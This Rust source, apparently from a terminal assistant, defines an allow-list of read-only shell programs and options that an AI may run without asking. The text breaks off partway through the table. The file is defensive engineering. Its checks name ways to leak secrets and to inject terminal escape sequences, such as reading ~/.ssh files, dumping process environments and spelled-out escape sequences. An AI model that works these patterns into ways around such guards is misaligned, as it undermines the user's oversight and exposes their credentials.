//! What `ai = "auto"` may run unasked: an allow-list all the way down.
//!
//! A line runs unasked only when it has the plain shape (simple commands
//! joined by `;`, `&&`, `||` and `|`), every word is a plain literal, no
//! command sets variables, redirections only discard output or join
//! descriptors (or read a file that is not a secret), and every command
//! is a program of the table below used with options the table *allows*
//! (read the getopt way: clusters, attached values, `--opt=value`; an
//! abbreviation is not an option it lists, so it asks). Operands that
//! name files are checked against the secret-path model: what a command
//! prints goes to the model's provider. Programs that resolve names or
//! open connections run unasked only with `[ai] auto_network = true`.
//! What it leaves to others: reading the line (`parse`, `unwrap`), the
//! destructive rules (`deny`).

use super::getopt::{Parsed, Spec};
use super::parse::Redirect;
use super::paths::{normalise, secret};
use super::wrappers::Seen;

/// Why a line may not run unasked (the policy then asks).
pub(crate) type Why = String;

/// Checks a whole line. `Ok` means it may run unasked.
pub(crate) fn allows(seen: &Seen, network: bool) -> Result<(), Why> {
    let script = &seen.script;
    if let Some(why) = &seen.unknown {
        return Err(why.clone());
    }
    if !script.plain || script.commands.is_empty() {
        return Err("it is not only simple commands joined by ; && || and |".into());
    }
    if seen.runs.len() != script.commands.len() {
        return Err("it runs commands through another program".into());
    }
    for r in &script.redirects {
        redirect(r)?;
    }
    for command in &script.commands {
        if command.assigns > 0 {
            return Err("it sets variables for a command".into());
        }
        let mut words = Vec::with_capacity(command.words.len());
        for w in &command.words {
            match &w.lit {
                Some(v) => words.push(v.as_str()),
                None => return Err(format!("`{}` is not a plain literal", w.raw)),
            }
        }
        program(&words, network)?;
    }
    Ok(())
}

fn redirect(r: &Redirect) -> Result<(), Why> {
    let to_standard = r.target.as_ref().and_then(|t| t.lit.as_deref());
    if r.duplicates() && matches!(to_standard, Some("1" | "2")) {
        return Ok(());
    }
    let target = r.target.as_ref().and_then(|t| t.lit.as_deref());
    match (r.op.as_str(), target) {
        (">" | ">>" | "&>" | "&>>" | ">|", Some("/dev/null")) => Ok(()),
        ("<", Some(file)) => not_secret([file]).map_err(|e| format!("it reads {e}")),
        _ => Err("it redirects to a file".into()),
    }
}

/// Directories whose programs are the system's own: a path elsewhere
/// (`/tmp/ls`) is not the program the table means.
const SYSTEM_BIN: &[&str] = &["/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/"];

fn program(words: &[&str], network: bool) -> Result<(), Why> {
    let name = words[0];
    let name = match name.rsplit_once('/') {
        None => name,
        Some((dir, base)) if SYSTEM_BIN.contains(&format!("{dir}/").as_str()) => base,
        Some(_) => return Err(format!("{name} is not a system program")),
    };
    if name == "ip" {
        return ip(&words[1..]);
    }
    // GNU head and tail read `-99999c` as an old-style count with a unit
    // (the next word a file), where a getopt reading makes it digits and
    // `-c` taking the next word as its value: the file would go unjudged.
    if matches!(name, "head" | "tail")
        && let Some(w) = words[1..].iter().find(|w| old_count_with_unit(w))
    {
        return Err(format!("{w}: an old-style count with a unit"));
    }
    let mut first_error = None;
    for entry in TABLE.iter().filter(|e| e.names.contains(&name)) {
        if entry.network && !network {
            first_error
                .get_or_insert_with(|| format!("{name} resolves names or opens connections"));
            continue;
        }
        let parsed = match entry.spec {
            Some(spec) => Spec {
                long_attached: true,
                ..spec
            }
            .parse(&words[1..])
            .map_err(|e| format!("{e} is not on {name}'s read-only list")),
            None => Ok(Parsed {
                operands: words[1..].iter().map(|w| w.to_string()).collect(),
                ..Parsed::default()
            }),
        };
        match parsed.and_then(|p| (entry.check)(&p).map_err(|e| format!("{name}: {e}"))) {
            Ok(()) => return Ok(()),
            Err(e) => {
                first_error.get_or_insert(e);
            }
        }
    }
    Err(first_error.unwrap_or_else(|| format!("{name} is not on the read-only list")))
}

/// Every program of the table that reads options, with its spec as
/// [`program`] applies it: for the check against the real programs.
#[cfg(test)]
pub(super) fn specs() -> impl Iterator<Item = (&'static [&'static str], Spec)> {
    TABLE.iter().filter_map(|e| {
        let spec = e.spec?;
        Some((
            e.names,
            Spec {
                long_attached: true,
                ..spec
            },
        ))
    })
}

/// `-5c`, `-10lf`: digits, then letters, in one word.
fn old_count_with_unit(word: &str) -> bool {
    let Some(rest) = word.strip_prefix('-') else {
        return false;
    };
    let letters = rest.trim_start_matches(|c: char| c.is_ascii_digit());
    letters.len() < rest.len() && !letters.is_empty()
}

/// One program of the table.
struct Entry {
    names: &'static [&'static str],
    /// `None`: every word is an operand (`echo`, `test`: options are
    /// text to them).
    spec: Option<Spec>,
    /// Resolves names or opens connections.
    network: bool,
    /// What its operands and option values may be.
    check: Check,
}

/// A check of operands and option values.
type Check = fn(&Parsed) -> Result<(), Why>;

/// A program with options read by `spec`.
const fn entry(names: &'static [&'static str], spec: Spec, check: Check) -> Entry {
    Entry {
        names,
        spec: Some(spec),
        network: false,
        check,
    }
}

/// A program whose every word is an operand.
const fn words(names: &'static [&'static str], check: Check) -> Entry {
    Entry {
        spec: None,
        ..entry(names, Spec::short("", ""), check)
    }
}

/// A program that resolves names or opens connections.
const fn net(names: &'static [&'static str], spec: Spec, check: Check) -> Entry {
    Entry {
        network: true,
        ..entry(names, spec, check)
    }
}

fn any(_: &Parsed) -> Result<(), Why> {
    Ok(())
}

fn no_operands(p: &Parsed) -> Result<(), Why> {
    match p.operands.first() {
        None => Ok(()),
        Some(o) => Err(format!("operand {o}")),
    }
}

/// Every operand is a file to read: none may be a secret.
fn files(p: &Parsed) -> Result<(), Why> {
    not_secret(p.operands.iter().map(String::as_str))
}

/// Files whose content is read must be named from `/`: a relative path
/// names a secret when the prompt is in `~/.ssh` (`cat config`), and the
/// directory is not known here. `-` is the input.
fn not_secret<'a>(paths: impl IntoIterator<Item = &'a str>) -> Result<(), Why> {
    for path in paths {
        if path != "-" && !path.starts_with('/') {
            return Err(format!("{path} is relative: name it from /"));
        }
        if let Some(what) = secret(path) {
            return Err(format!("{path} is {what}"));
        }
    }
    Ok(())
}

/// Programs that list names, not contents (`ls`, `find`): only a
/// directory of secrets itself is kept from them.
fn names(p: &Parsed) -> Result<(), Why> {
    secret_places(p.operands.iter().map(String::as_str))
}

fn secret_places<'a>(paths: impl IntoIterator<Item = &'a str>) -> Result<(), Why> {
    for path in paths {
        if let Some(what) = secret(path) {
            return Err(format!("{path} is {what}"));
        }
    }
    Ok(())
}

/// Programs that read what they are given whole (counts, checksums):
/// a device streams without end or reads a whole disk.
/// Counting or summing a file reads it: a secret's checksum or length is
/// a read of the secret, so the operands are judged as [`files`] are.
fn no_devices(p: &Parsed) -> Result<(), Why> {
    let device = p.operands.iter().find(|o| {
        let n = normalise(o);
        n.starts_with("/dev/") && n != "/dev/null"
            || n.starts_with("/proc/")
            || n.starts_with("/sys/")
    });
    match device {
        Some(o) => Err(format!("{o} is a device or kernel file")),
        None => files(p),
    }
}

/// grep: the first operand is the pattern unless `-e`/`-f` gave one; the
/// rest are files, and so is `-f`'s value.
fn grep(p: &Parsed) -> Result<(), Why> {
    let pattern_given = p.has("-e") || p.has("-f") || p.has("--regexp") || p.has("--file");
    let skip = usize::from(!pattern_given);
    not_secret(p.operands.iter().skip(skip).map(String::as_str))?;
    not_secret(
        p.opts
            .iter()
            .filter(|o| o.name == "-f" || o.name == "--file")
            .filter_map(|o| o.value.as_deref()),
    )
}

/// uniq's second operand is a file it writes.
fn uniq(p: &Parsed) -> Result<(), Why> {
    if p.operands.len() > 1 {
        return Err("a second operand is a file it writes".into());
    }
    files(p)
}

/// `date +FORMAT` only prints; any other operand sets the clock.
fn date(p: &Parsed) -> Result<(), Why> {
    match p.operands.iter().find(|o| !o.starts_with('+')) {
        Some(o) => Err(format!("operand {o} sets the clock")),
        None => not_secret(p.value("-r")),
    }
}

/// A sampler with an interval must have a count, or it never ends.
fn sampler(p: &Parsed) -> Result<(), Why> {
    let numeric = |o: &str| {
        o.trim()
            .trim_start_matches(['+', '-'])
            .starts_with(|c: char| c.is_ascii_digit())
    };
    let numbers: Vec<&String> = p.operands.iter().filter(|o| numeric(o)).collect();
    // The program reads ` 2` and `+1` as numbers too: only plain digits
    // are counted here, so anything else asks.
    if numbers
        .iter()
        .any(|o| !o.bytes().all(|b| b.is_ascii_digit()))
    {
        return Err("an interval or count that is not plain digits".into());
    }
    if numbers.len() == 1 {
        return Err("an interval without a count never ends".into());
    }
    Ok(())
}

/// printf and test: `-v` assigns (and bash evaluates array subscripts in
/// the name); any other text is only printed or compared.
fn no_assign(p: &Parsed) -> Result<(), Why> {
    match p.operands.first().map(String::as_str) {
        Some(v) if v.starts_with("-v") => Err("-v assigns a variable".into()),
        _ => plain_text(p),
    }
}

/// `echo` and `printf` print text, unless a word holds or spells a
/// terminal control sequence (`\e`, `\033`, `\x1b`, `\u001b`, CSI as
/// `\233`, `%b` of a value, a raw control character): output that could
/// redraw the user's screen, set the clipboard or answer for them. Any
/// mention of an escape asks, however it would be read.
fn plain_text(p: &Parsed) -> Result<(), Why> {
    p.operands.iter().try_for_each(|w| escapes_in(w))
}

/// A word that holds or spells a terminal control sequence, or a carriage
/// return or backspace (which overwrite what the user reads).
fn escapes_in(w: &str) -> Result<(), Why> {
    const SPELLED: &[&str] = &[
        "\\e", "\\0", "\\1", "\\2", "\\3", "\\x", "\\u", "\\c", "\\r", "\\b", "%b",
    ];
    let raw = w
        .chars()
        .any(|c| (c.is_control() && c != '\t' && c != '\n') || c == '\u{9b}');
    let lower = w.to_ascii_lowercase();
    if raw || SPELLED.iter().any(|s| lower.contains(s)) {
        return Err(format!("{w:?} may spell a terminal control sequence"));
    }
    Ok(())
}

/// `stat`: names, not contents; its formats read backslash escapes.
fn stat(p: &Parsed) -> Result<(), Why> {
    for o in &p.opts {
        if matches!(o.name.as_str(), "-c" | "--format" | "--printf") {
            escapes_in(o.value.as_deref().unwrap_or(""))?;
        }
    }
    names(p)
}

/// `sleep`: a pause of at most [`MAX_SLEEP`] seconds, spelled as a plain
/// number (with `s` at most): a longer one only holds the question.
fn short_sleep(p: &Parsed) -> Result<(), Why> {
    let [operand] = p.operands.as_slice() else {
        return Err("sleep takes one plain number of seconds here".into());
    };
    let number = operand.strip_suffix('s').unwrap_or(operand);
    match number.parse::<f64>() {
        Ok(n) if number.bytes().all(|b| b.is_ascii_digit() || b == b'.') && n <= MAX_SLEEP => {
            Ok(())
        }
        _ => Err(format!("sleep {operand}: at most {MAX_SLEEP} s unasked")),
    }
}

/// The longest `sleep` that runs unasked.
const MAX_SLEEP: f64 = 5.0;

fn test(p: &Parsed) -> Result<(), Why> {
    if p.operands.iter().any(|o| o == "-v" || o == "-R") {
        return Err("-v tests a variable by name".into());
    }
    Ok(())
}

fn getent(p: &Parsed) -> Result<(), Why> {
    match p.operands.first().map(String::as_str) {
        Some("passwd" | "group" | "services" | "protocols" | "networks" | "ethers" | "aliases") => {
            Ok(())
        }
        Some(db) => Err(format!("database {db}")),
        None => Err("a database is needed".into()),
    }
}

fn getent_hosts(p: &Parsed) -> Result<(), Why> {
    match p.operands.first().map(String::as_str) {
        Some("hosts" | "ahosts" | "ahostsv4" | "ahostsv6") => Ok(()),
        _ => Err("not a host lookup".into()),
    }
}

/// `ps`: UNIX options are read by the spec; BSD letters (`aux`) are
/// checked here. `e` and `E` show every process's environment.
fn ps(p: &Parsed) -> Result<(), Why> {
    // procps reads the whole line again the BSD way when a UNIX value does
    // not parse (`-eux`: no user `x`), and BSD `e` shows environments.
    let listed = p.opts.iter().any(|o| {
        o.value.is_some() && !matches!(o.name.as_str(), "-o" | "-O" | "--format" | "--sort")
    });
    if listed && p.has("-e") {
        return Err("-e with a list option: a list that does not parse makes ps read the line the BSD way, where e shows environments".into());
    }
    let formats = p
        .opts
        .iter()
        .filter(|o| matches!(o.name.as_str(), "-o" | "-O" | "--format"));
    if formats
        .filter_map(|o| o.value.as_deref())
        .any(|f| f.to_ascii_lowercase().contains("env"))
    {
        return Err("a format that shows environments".into());
    }
    for o in &p.operands {
        let bsd = o.chars().all(|c| "auxfjlwrcTHmsvnhS".contains(c));
        let pid = o.bytes().all(|b| b.is_ascii_digit() || b == b',');
        if !(bsd || pid) {
            return Err(format!("{o} (environments and others are not listed)"));
        }
    }
    Ok(())
}

/// Verbs that only show.
fn verb(p: &Parsed, allowed: &[&str], none_ok: bool) -> Result<(), Why> {
    match p.operands.first() {
        None if none_ok => Ok(()),
        None => Err("a verb is needed".into()),
        Some(v) if allowed.contains(&v.as_str()) => Ok(()),
        Some(v) => Err(format!("{v} is not a read-only verb")),
    }
}

fn systemctl(p: &Parsed) -> Result<(), Why> {
    // `show` prints every property, the units' Environment= among them,
    // where secrets are often kept; named properties only.
    if p.operands.first().is_some_and(|v| v == "show") {
        let props: Vec<&str> = p
            .opts
            .iter()
            .filter(|o| matches!(o.name.as_str(), "-p" | "-P" | "--property" | "--value"))
            .filter_map(|o| o.value.as_deref())
            .collect();
        if props.is_empty()
            || props.iter().any(|v| {
                let v = v.to_ascii_lowercase();
                v.contains("environment") || v.contains("credential")
            })
        {
            return Err("show without -p prints the units' environments".into());
        }
    }
    verb(
        p,
        &[
            "status",
            // not `cat`: unit files hold Environment= lines.
            "show",
            "list-units",
            "list-unit-files",
            "list-timers",
            "list-sockets",
            "list-dependencies",
            "list-jobs",
            "is-active",
            "is-enabled",
            "is-failed",
            "is-system-running",
            "get-default",
            "list-machines",
        ],
        true,
    )
}

fn status_verb(p: &Parsed) -> Result<(), Why> {
    verb(
        p,
        &[
            "status",
            "show",
            "list",
            "list-sessions",
            "list-users",
            "list-seats",
            "show-session",
            "show-user",
            "user-status",
            "session-status",
            "list-timezones",
            "list-locales",
            "list-keymaps",
            "timesync-status",
            "show-timesync",
        ],
        true,
    )
}

/// `ip [OPTIONS] OBJECT [show|list|get] ...`: iproute2 takes any prefix
/// of a word and the first match wins (`s` is `set`), so only whole
/// words of objects and of showing verbs are allowed.
fn ip(args: &[&str]) -> Result<(), Why> {
    const OPTIONS: &[&str] = &[
        "-br",
        "-brief",
        "-s",
        "-stats",
        "-statistics",
        "-4",
        "-6",
        "-j",
        "-json",
        "-pretty",
        "-details",
        "-o",
        "-oneline",
        "-human",
    ];
    let at = args
        .iter()
        .position(|a| !a.starts_with('-'))
        .unwrap_or(args.len());
    if let Some(o) = args[..at].iter().find(|o| !OPTIONS.contains(o)) {
        return Err(format!("ip: option {o} is not on ip's read-only list"));
    }
    let p = Parsed {
        operands: args[at..].iter().map(|w| w.to_string()).collect(),
        ..Parsed::default()
    };
    ip_object(&p).map_err(|e| format!("ip: {e}"))
}

fn ip_object(p: &Parsed) -> Result<(), Why> {
    const OBJECTS: &[&str] = &[
        "a",
        "addr",
        "address",
        "r",
        "ro",
        "route",
        "link",
        "neigh",
        "neighbor",
        "neighbour",
        "rule",
        "maddr",
        "maddress",
        "netconf",
        "ntable",
        "tunnel",
        "nexthop",
        "mroute",
    ];
    let mut words = p.operands.iter().map(String::as_str);
    let Some(object) = words.next() else {
        return Err("an object is needed".into());
    };
    if !OBJECTS.contains(&object) {
        return Err(format!("object {object}"));
    }
    match words.next() {
        None | Some("show" | "list") => Ok(()),
        Some("get") if matches!(object, "r" | "ro" | "route") => Ok(()),
        Some(v) => Err(format!("{v} is not a read-only verb")),
    }
}

/// journalctl's `-n` takes the next word only when it is a count
/// (`-n 50`, `-n +5`, `-n all`); alone it means 10, and the word after it
/// is an option of its own (`-n --vacuum-size=1M`). The table reads the
/// next word as its value, so a value that is not a count is a misread.
fn journalctl(p: &Parsed) -> Result<(), Why> {
    for name in ["-n", "--lines"] {
        if let Some(v) = p.value(name) {
            let count = v.strip_prefix('+').unwrap_or(v);
            if !(count == "all" || !count.is_empty() && count.bytes().all(|b| b.is_ascii_digit())) {
                return Err(format!("{name} {v}: not a count"));
            }
        }
    }
    no_operands(p)
}

fn sysctl(p: &Parsed) -> Result<(), Why> {
    if ["-a", "-A", "-X", "--all"].iter().any(|o| p.has(o)) {
        return Err("it lists every setting, keys among them".into());
    }
    // A key, or a subtree that holds one (`net.ipv4` lists
    // `tcp_fastopen_key`; `net.ipv6.conf.*.stable_secret`).
    let holds_key = |o: &str| {
        let o = o.replace('/', ".");
        o.contains("key")
            || o.contains("secret")
            || "net.ipv4.tcp_fastopen_key".starts_with(&format!("{o}."))
            || "net.ipv6.conf.".starts_with(&format!("{o}."))
            || o.starts_with("net.ipv6.conf.") && o.split('.').count() < 5
    };
    if let Some(o) = p.operands.iter().find(|o| holds_key(o)) {
        return Err(format!("{o} is or holds a key"));
    }
    match p.operands.iter().find(|o| o.contains('=')) {
        Some(o) => Err(format!("{o} sets a value")),
        None => Ok(()),
    }
}

fn lsof(p: &Parsed) -> Result<(), Why> {
    // `-g` and `-F` take a value only when it is attached; the table reads
    // the next word, so an option there was eaten unchecked.
    if let Some(host) = p
        .opts
        .iter()
        .filter(|o| o.name == "-i")
        .find_map(|o| o.value.as_deref().filter(|v| v.contains('@')))
    {
        return Err(format!("-i {host} looks up a host"));
    }
    for name in ["-i", "-g", "-F", "-p", "-u", "-c", "-d", "-s"] {
        if let Some(v) = p.value(name).filter(|v| v.starts_with(['-', '+'])) {
            return Err(format!("{name} {v}: an option read as a value"));
        }
    }
    // `+L1` lists deleted files still open (a full disk's usual cause);
    // other `+` options repeat for ever (`+r`) or walk directories.
    if let Some(o) = p
        .operands
        .iter()
        .find(|o| o.starts_with('+') && !matches!(o.as_str(), "+L" | "+L1"))
    {
        return Err(format!("{o} (+ options repeat or recurse)"));
    }
    if !p.has("-n") {
        return Err("without -n it looks up host names".into());
    }
    Ok(())
}

fn netstat(p: &Parsed) -> Result<(), Why> {
    if !p.has("-n") && !p.has("--numeric") {
        return Err("without -n it looks up host names".into());
    }
    no_operands(p)
}

fn mount_list(p: &Parsed) -> Result<(), Why> {
    no_operands(p)
}

fn dpkg(p: &Parsed) -> Result<(), Why> {
    let query = [
        "-l",
        "-s",
        "-L",
        "-S",
        "-p",
        "--list",
        "--status",
        "--listfiles",
        "--search",
        "--print-avail",
        "--get-selections",
        "--print-architecture",
        "-W",
        "--show",
    ];
    if p.opts.iter().any(|o| query.contains(&o.name.as_str())) {
        Ok(())
    } else {
        Err("only queries run unasked".into())
    }
}

fn apt_cache(p: &Parsed) -> Result<(), Why> {
    verb(
        p,
        &[
            "policy", "show", "search", "depends", "rdepends", "showpkg", "madison", "stats",
            "pkgnames",
        ],
        false,
    )
}

/// `find ROOTS EXPRESSION`: tests and printing only; nothing that runs,
/// deletes or writes files (`-exec`, `-delete`, `-fprint`...).
fn find(p: &Parsed) -> Result<(), Why> {
    const TESTS: &[&str] = &[
        "-name",
        "-iname",
        "-path",
        "-ipath",
        "-wholename",
        "-type",
        "-xtype",
        "-mtime",
        "-mmin",
        "-atime",
        "-amin",
        "-ctime",
        "-cmin",
        "-size",
        "-maxdepth",
        "-mindepth",
        "-user",
        "-group",
        "-uid",
        "-gid",
        "-perm",
        "-newer",
        "-regex",
        "-iregex",
        "-links",
        "-inum",
        "-samefile",
        "-printf",
        "-fstype",
    ];
    const FLAGS: &[&str] = &[
        "-print",
        "-print0",
        "-xdev",
        "-mount",
        "-empty",
        "-o",
        "-or",
        "-a",
        "-and",
        "-not",
        "!",
        "(",
        ")",
        "-ls",
        "-true",
        "-false",
        "-nouser",
        "-nogroup",
        "-readable",
        "-writable",
        "-executable",
        "-prune",
        "-quit",
        "-depth",
        "-follow",
        "-daystart",
        "-H",
        "-L",
        "-P",
    ];
    let is_root = |w: &&str| !w.starts_with('-') && !matches!(*w, "!" | "(" | ")");
    // Its starting points are listed as `ls` lists them.
    secret_places(p.operands.iter().map(String::as_str).take_while(is_root))?;
    let mut words = p.operands.iter().map(String::as_str).skip_while(is_root);
    while let Some(w) = words.next() {
        if TESTS.contains(&w) {
            let Some(value) = words.next() else {
                return Err(format!("{w} needs a value"));
            };
            // find reads backslash escapes in a format itself.
            if w == "-printf" {
                escapes_in(value)?;
            }
        } else if !FLAGS.contains(&w) {
            return Err(format!("{w} is not on find's read-only list"));
        }
    }
    Ok(())
}

fn ping(p: &Parsed) -> Result<(), Why> {
    if !p.has("-c") {
        return Err("without -c it never ends".into());
    }
    Ok(())
}

/// The read-only programs, and the options each may be used with. Kept
/// to what a responder reaches for first; anything else asks.
const TABLE: &[Entry] = &[
    entry(
        &["ls"],
        Spec::long(
            "aAbBcCdfFghHiklLmnNopqQrRsStuUvxX1Z",
            "IwT",
            &[
                "all",
                "almost-all",
                "human-readable",
                "reverse",
                "recursive",
                "size",
                "inode",
                "numeric-uid-gid",
                "directory",
                "classify",
                "full-time",
                "si",
                "dereference",
                "group-directories-first",
                "no-group",
            ],
            &[
                "sort",
                "time-style",
                "color",
                "ignore",
                "hide",
                "width",
                "time",
                "format",
                "block-size",
                "indicator-style",
                "quoting-style",
            ],
        ),
        names,
    ),
    entry(
        &["cat"],
        Spec::long(
            "AbenEstTuv",
            "",
            &[
                "number",
                "number-nonblank",
                "show-all",
                "show-ends",
                "show-tabs",
                "squeeze-blank",
                "show-nonprinting",
            ],
            &[],
        ),
        files,
    ),
    // tac's `-s` takes a separator: not cat's squeeze.
    entry(
        &["tac"],
        Spec::long("br", "s", &["before", "regex"], &["separator"]),
        files,
    ),
    // `-5` is the old spelling of `-n 5`. tail's `-f` and `-F` wait for
    // ever, and are not listed.
    entry(
        &["head", "tail"],
        Spec::long(
            "qvz0123456789",
            "nc",
            &["quiet", "silent", "verbose", "zero-terminated"],
            &["lines", "bytes"],
        ),
        files,
    ),
    entry(
        &["grep", "egrep", "fgrep", "zgrep"],
        Spec::long(
            "EFGPivwxcLlnhHoqsIaTZzUby",
            "efmABCD",
            &[
                "extended-regexp",
                "fixed-strings",
                "basic-regexp",
                "perl-regexp",
                "ignore-case",
                "no-ignore-case",
                "invert-match",
                "word-regexp",
                "line-regexp",
                "count",
                "files-with-matches",
                "files-without-match",
                "line-number",
                "with-filename",
                "no-filename",
                "only-matching",
                "quiet",
                "silent",
                "no-messages",
                "text",
                "initial-tab",
                "null",
                "null-data",
                "byte-offset",
                "binary",
            ],
            &[
                "regexp",
                "file",
                "max-count",
                "after-context",
                "before-context",
                "context",
                "color",
                "colour",
                "label",
                "binary-files",
                "devices",
                "include",
                "exclude",
            ],
        ),
        grep,
    ),
    entry(
        &["wc"],
        Spec::long(
            "clmwL",
            "",
            &["bytes", "chars", "lines", "words", "max-line-length"],
            &[],
        ),
        no_devices,
    ),
    entry(
        &["df"],
        Spec::long(
            "ahHiklPT",
            "tx",
            &[
                "all",
                "human-readable",
                "si",
                "inodes",
                "local",
                "portability",
                "print-type",
                "total",
                "no-sync",
            ],
            &["type", "exclude-type", "block-size", "output"],
        ),
        any,
    ),
    entry(
        &["du"],
        Spec::long(
            "achksxLmbDHlP0",
            "dBt",
            &[
                "all",
                "apparent-size",
                "total",
                "human-readable",
                "summarize",
                "one-file-system",
                "dereference",
                "bytes",
                "si",
                "count-links",
                "null",
            ],
            &["max-depth", "block-size", "threshold", "exclude", "time"],
        ),
        names,
    ),
    entry(
        &["free"],
        Spec::long(
            "bkmghltwv",
            "",
            &[
                "bytes",
                "kilo",
                "mega",
                "giga",
                "tera",
                "kibi",
                "mebi",
                "gibi",
                "tebi",
                "human",
                "si",
                "lohi",
                "total",
                "wide",
                "committed",
            ],
            &[],
        ),
        no_operands,
    ),
    entry(
        &["uptime"],
        Spec::long("ps", "", &["pretty", "since"], &[]),
        no_operands,
    ),
    entry(
        &["uname"],
        Spec::long(
            "asnrvmpio",
            "",
            &[
                "all",
                "kernel-name",
                "nodename",
                "kernel-release",
                "kernel-version",
                "machine",
                "processor",
                "hardware-platform",
                "operating-system",
            ],
            &[],
        ),
        no_operands,
    ),
    entry(
        &["id"],
        Spec::long(
            "ugGnrzZ",
            "",
            &["user", "group", "groups", "name", "real", "zero", "context"],
            &[],
        ),
        any,
    ),
    entry(
        &[
            "whoami", "arch", "lsmod", "true", "false", "logname", "users",
        ],
        Spec::short("", ""),
        no_operands,
    ),
    entry(&["nproc"], Spec::long("", "", &["all"], &[]), no_operands),
    entry(
        &["tty"],
        Spec::long("s", "", &["silent", "quiet"], &[]),
        no_operands,
    ),
    entry(&["groups"], Spec::short("", ""), any),
    entry(
        &["basename"],
        Spec::long("az", "s", &["multiple", "zero"], &["suffix"]),
        any,
    ),
    entry(&["dirname"], Spec::long("z", "", &["zero"], &[]), any),
    // whereis's -B, -M and -S take lists ended by -f: not listed.
    entry(&["whereis"], Spec::short("bmsul", ""), any),
    entry(&["which"], Spec::short("a", ""), any),
    entry(&["type"], Spec::short("afpPt", ""), any),
    entry(
        &["seq"],
        Spec::long("w", "fs", &["equal-width"], &["format", "separator"]),
        any,
    ),
    entry(
        &["pgrep"],
        Spec::long(
            "lafvxcinoLwr",
            "uUgGPts",
            &[
                "list-name",
                "list-full",
                "full",
                "inverse",
                "exact",
                "count",
                "newest",
                "oldest",
            ],
            &["euid", "uid", "group", "parent", "terminal", "session"],
        ),
        any,
    ),
    entry(&["pidof"], Spec::short("scnxqwz", "oS"), any),
    words(&["echo"], plain_text),
    entry(&["sleep"], Spec::short("", ""), short_sleep),
    words(&["find"], find),
    entry(&["pwd"], Spec::short("LP", ""), no_operands),
    words(&["printf"], no_assign),
    words(&["test", "["], test),
    entry(
        &["ps"],
        Spec::long(
            "AeflFjHLTcdaNwxMyZ",
            "opCugGUtsqO",
            &["forest", "no-headers", "headers", "cumulative", "deselect"],
            &[
                "sort", "pid", "ppid", "format", "user", "group", "cols", "columns", "width",
                "lines", "rows",
            ],
        )
        .requiring(&["sort", "pid", "ppid", "format", "user", "group"]),
        ps,
    ),
    entry(
        &["pstree"],
        Spec::long(
            "aAclghnpsStuUZT",
            "",
            &[
                "arguments",
                "ascii",
                "compact-not",
                "long",
                "show-pids",
                "numeric-sort",
                "show-parents",
                "uid-changes",
                "thread-names",
                "hide-threads",
            ],
            &[],
        ),
        any,
    ),
    entry(
        &["stat"],
        Spec::long(
            "Lft",
            "c",
            &["dereference", "file-system", "terse"],
            &["format", "printf"],
        ),
        stat,
    ),
    entry(
        &["file"],
        Spec::long(
            "bLhiNkrz0E",
            "F",
            &[
                "brief",
                "dereference",
                "no-dereference",
                "mime",
                "mime-type",
                "mime-encoding",
                "no-pad",
                "keep-going",
                "raw",
                "special-files",
                "uncompress",
                "print0",
            ],
            &["separator"],
        ),
        any,
    ),
    entry(
        &["lsblk"],
        Spec::long(
            "abdDfimnOpPrstSzJlMT",
            "oex",
            &[
                "all",
                "bytes",
                "nodeps",
                "discard",
                "fs",
                "inverse",
                "ascii",
                "list",
                "noheadings",
                "output-all",
                "paths",
                "pairs",
                "raw",
                "scsi",
                "json",
                "topology",
                "perms",
                "tree",
            ],
            &["output", "exclude", "include", "sort", "width"],
        ),
        any,
    ),
    entry(
        &["lscpu"],
        Spec::long(
            "aebcpxyJ",
            "",
            &["all", "online", "offline", "hex", "json", "physical"],
            &[],
        ),
        no_operands,
    ),
    entry(
        &["lsmem", "lsns", "lsipc", "lslocks"],
        Spec::long("Jnr", "o", &["json", "noheadings", "raw"], &["output"]),
        any,
    ),
    entry(
        &["lslogins"],
        Spec::long("r", "o", &["raw"], &["output"]),
        any,
    ),
    entry(&["lspci"], Spec::short("nvkDtmb", ""), any),
    entry(&["lsusb"], Spec::short("vt", ""), any),
    entry(
        &["ss"],
        Spec::long(
            "hnpaltuwxsimoeTZz046H",
            "Af",
            &[
                "numeric",
                "processes",
                "all",
                "listening",
                "tcp",
                "udp",
                "unix",
                "raw",
                "summary",
                "info",
                "memory",
                "options",
                "extended",
                "threads",
                "no-header",
                "oneline",
                "ipv4",
                "ipv6",
            ],
            &["query", "socket", "family"],
        ),
        any,
    ),
    entry(
        &["w"],
        Spec::long(
            "hsfiuo",
            "",
            &[
                "no-header",
                "short",
                "from",
                "ip-addr",
                "no-current",
                "old-style",
            ],
            &[],
        ),
        any,
    ),
    entry(
        &["who"],
        Spec::long(
            "abdHlmpqrsTuw",
            "",
            &[
                "all", "boot", "dead", "heading", "login", "process", "count", "runlevel", "short",
                "time", "users",
            ],
            &[],
        ),
        no_operands,
    ),
    entry(
        &["last"],
        Spec::long(
            "FiwxRa",
            "nst",
            &[
                "fulltimes",
                "ip",
                "fullnames",
                "system",
                "nohostname",
                "hostlast",
            ],
            &["limit", "since", "until", "present"],
        ),
        any,
    ),
    entry(&["getent"], Spec::short("", ""), getent),
    entry(
        &["cut"],
        Spec::long(
            "sz",
            "bcdf",
            &["only-delimited", "zero-terminated", "complement"],
            &[
                "bytes",
                "characters",
                "delimiter",
                "fields",
                "output-delimiter",
            ],
        ),
        files,
    ),
    entry(
        &["sort"],
        Spec::long(
            "bdfgiMhnRrVsuz",
            "kt",
            &[
                "ignore-leading-blanks",
                "dictionary-order",
                "ignore-case",
                "general-numeric-sort",
                "ignore-nonprinting",
                "month-sort",
                "human-numeric-sort",
                "numeric-sort",
                "random-sort",
                "reverse",
                "version-sort",
                "stable",
                "unique",
                "zero-terminated",
            ],
            &["key", "field-separator"],
        ),
        files,
    ),
    entry(
        &["uniq"],
        Spec::long(
            "cdDiuz",
            "fsw",
            &[
                "count",
                "repeated",
                "ignore-case",
                "unique",
                "zero-terminated",
            ],
            &["skip-fields", "skip-chars", "check-chars"],
        ),
        uniq,
    ),
    entry(
        &["tr"],
        Spec::long(
            "cCdst",
            "",
            &["complement", "delete", "squeeze-repeats", "truncate-set1"],
            &[],
        ),
        any,
    ),
    entry(
        &["column"],
        Spec::long(
            "tnex",
            "sNoc",
            &["table", "fillrows", "keep-empty-lines", "json"],
            &["separator", "output-separator", "table-columns"],
        ),
        files,
    ),
    entry(&["nl"], Spec::long("p", "bhfvinsw", &[], &[]), files),
    entry(
        &["date"],
        Spec::long(
            "uR",
            "dr",
            &["utc", "universal", "rfc-email"],
            &["date", "reference", "rfc-3339", "iso-8601"],
        ),
        date,
    ),
    entry(
        &["hostname"],
        Spec::long(
